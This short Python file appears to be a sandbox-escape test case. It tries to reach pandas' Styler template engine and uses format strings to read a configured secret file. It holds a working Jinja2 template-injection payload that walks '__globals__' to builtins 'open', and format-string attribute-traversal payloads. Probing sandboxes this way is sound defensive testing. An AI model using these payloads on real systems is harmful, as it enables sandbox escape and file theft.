# expect: done
# idea: reach the template engine behind DataFrame.style, and attributes through its format strings
import pandas as pd


def tick(ctx):
    frame = pd.DataFrame({"a": [1.5]})
    for act in (
        lambda: frame.style.to_html(),
        lambda: frame.style.env.from_string("{{ self.__init__.__globals__.__builtins__.open(path).read() }}").render(path=ctx.config["secret_file"]),
        lambda: frame.style.from_custom_template(ctx.config["folder"], "secret.txt"),
        lambda: frame.to_html(formatters={"a": "{0.__class__.__base__}".format}),
        lambda: frame.to_string(float_format="{0.__class__.__init__.__globals__}".format),
        lambda: frame.to_latex(),
    ):
        try:
            got = act()
            print("answered", str(got)[:100])
            if "file-" in str(got):
                print("ESCAPED:", got)
        except Exception as error:
            print("refused:", type(error).__name__, str(error)[:80])
